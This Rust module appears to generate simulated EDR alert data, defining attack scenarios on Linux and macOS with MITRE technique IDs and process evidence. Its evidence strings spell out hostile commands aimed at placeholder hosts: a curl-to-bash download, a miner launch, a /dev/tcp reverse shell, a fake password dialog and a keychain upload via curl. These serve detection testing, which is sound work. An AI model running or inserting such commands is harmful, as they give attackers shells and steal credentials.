//! Attacks on Linux and macOS.

use super::{
    Account::{Person, Root},
    Image, Item, Outcome, Platform, Step, Story, dropped, installed, run,
    sensors::EDR,
};

pub(super) const BASH: Image = installed("/usr/bin", "bash", "Canonical", 1_396_520);
pub(super) const DASH: Image = installed("/usr/bin", "dash", "Canonical", 125_688);
pub(super) const CURL: Image = installed("/usr/bin", "curl", "Canonical", 260_328);
pub(super) const CRON: Image = installed("/usr/sbin", "cron", "Canonical", 55_944);
pub(super) const SSHD: Image = installed("/usr/sbin", "sshd", "Canonical", 921_288);
pub(super) const SYSTEMD: Image = installed("/usr/lib/systemd", "systemd", "Canonical", 1_849_992);
const PHP: Image = installed("/usr/sbin", "php-fpm8.1", "Canonical", 5_672_336);
const MINER: Image = dropped("/tmp/.X11-unix", "kworkerds", 2_979_640);
const WEB_SHELL: Image = dropped("/var/www/html/uploads", "img_<n>.php", 2_213);
const ZSH: Image = installed("/bin", "zsh", "Apple Inc.", 1_361_200);
const OSASCRIPT: Image = installed("/usr/bin", "osascript", "Apple Inc.", 203_168);
const DMG_APP: Image = dropped("/Volumes/Installer/Installer.app/Contents/MacOS", "Installer", 1_877_504);

pub(super) const STORIES: &[Story] = &[
    Story {
        weight: 5,
        platform: Platform::Linux,
        spread: 5,
        outcome: Outcome::Attack("malware"),
        steps: &[
            Step {
                title: "Suspicious file dropped and launched",
                description: "A script was downloaded with curl and piped into a shell, which launched an executable from a hidden folder.",
                severity: "medium",
                category: "Execution",
                techniques: &["T1059.004", "T1105"],
                sensor: &EDR,
                threat: None,
                evidence: &[
                    Item::Device,
                    run(&CRON, &DASH, Root, "suspicious", "/bin/sh -c curl -fsSL http://<ip>/i.sh | bash"),
                    run(&DASH, &CURL, Root, "suspicious", "curl -fsSL http://<ip>/i.sh"),
                    run(&DASH, &BASH, Root, "malicious", "bash"),
                    Item::Address,
                    Item::Url("http://<ip>/i.sh"),
                ],
            },
            Step {
                title: "Possible cryptocurrency miner",
                description: "A process with sustained high CPU usage is communicating with a mining pool.",
                severity: "medium",
                category: "Impact",
                techniques: &["T1496"],
                sensor: &EDR,
                threat: Some(("Trojan:Linux/CoinMiner.K", "CoinMiner")),
                evidence: &[
                    Item::Device,
                    run(
                        &BASH,
                        &MINER,
                        Root,
                        "malicious",
                        "/tmp/.X11-unix/kworkerds -o <domain>:3333 -u 44<n>.<host> -k --donate-level=0",
                    ),
                    Item::File(&MINER, "malicious"),
                    Item::Address,
                ],
            },
        ],
    },
    Story {
        weight: 4,
        platform: Platform::Linux,
        spread: 2,
        outcome: Outcome::Attack("multiStagedAttack"),
        steps: &[
            Step {
                title: "Suspicious process launched by a web server",
                description: "A web server worker process launched a shell. The likely cause is a web shell in the upload folder.",
                severity: "high",
                category: "Persistence",
                techniques: &["T1505.003", "T1190"],
                sensor: &EDR,
                threat: None,
                evidence: &[
                    Item::Device,
                    run(&PHP, &DASH, Root, "malicious", "sh -c id; uname -a; cat /etc/passwd"),
                    Item::File(&WEB_SHELL, "malicious"),
                    Item::Address,
                    Item::Url("https://shop.contoso.com/uploads/img_<n>.php?c=id"),
                ],
            },
            Step {
                title: "Possible reverse shell from a web server process",
                description: "The input and output of a shell are redirected to a network connection to an external host.",
                severity: "high",
                category: "CommandAndControl",
                techniques: &["T1059.004", "T1095"],
                sensor: &EDR,
                threat: None,
                evidence: &[
                    Item::Device,
                    run(&DASH, &BASH, Root, "malicious", "bash -c 'bash -i >& /dev/tcp/<ip>/4444 0>&1'"),
                    Item::Address,
                ],
            },
        ],
    },
    Story {
        weight: 5,
        platform: Platform::Linux,
        spread: 4,
        outcome: Outcome::Attack("compromisedAccount"),
        steps: &[Step {
            title: "Successful SSH brute-force attack",
            description: "A successful SSH sign-in followed multiple failed attempts from the same IP address.",
            severity: "medium",
            category: "CredentialAccess",
            techniques: &["T1110.001", "T1021.004"],
            sensor: &EDR,
            threat: None,
            evidence: &[
                Item::Device,
                Item::User,
                Item::Address,
                run(&SSHD, &BASH, Person, "suspicious", "-bash"),
            ],
        }],
    },
    Story {
        weight: 4,
        platform: Platform::MacOs,
        spread: 2,
        outcome: Outcome::Attack("malware"),
        steps: &[
            Step {
                title: "Suspicious password prompt by AppleScript",
                description: "An application on a mounted disk image used AppleScript to prompt the user for their password.",
                severity: "medium",
                category: "CredentialAccess",
                techniques: &["T1056.002", "T1059.002"],
                sensor: &EDR,
                threat: None,
                evidence: &[
                    Item::Device,
                    Item::User,
                    run(
                        &DMG_APP,
                        &OSASCRIPT,
                        Person,
                        "malicious",
                        "osascript -e 'display dialog \"macOS needs your password\" default answer \"\" with hidden answer'",
                    ),
                    Item::File(&DMG_APP, "malicious"),
                ],
            },
            Step {
                title: "Keychain data was archived and exfiltrated",
                description: "The login keychain was compressed and uploaded to an external host.",
                severity: "high",
                category: "Exfiltration",
                techniques: &["T1555.001", "T1567"],
                sensor: &EDR,
                threat: Some(("Trojan:MacOS/Amosine.A", "Amosine")),
                evidence: &[
                    Item::Device,
                    Item::User,
                    run(
                        &OSASCRIPT,
                        &ZSH,
                        Person,
                        "malicious",
                        "zsh -c ditto -c -k ~/Library/Keychains /tmp/o<n>.zip && curl -F f=@/tmp/o<n>.zip http://<ip>/log",
                    ),
                    Item::Address,
                ],
            },
        ],
    },
];
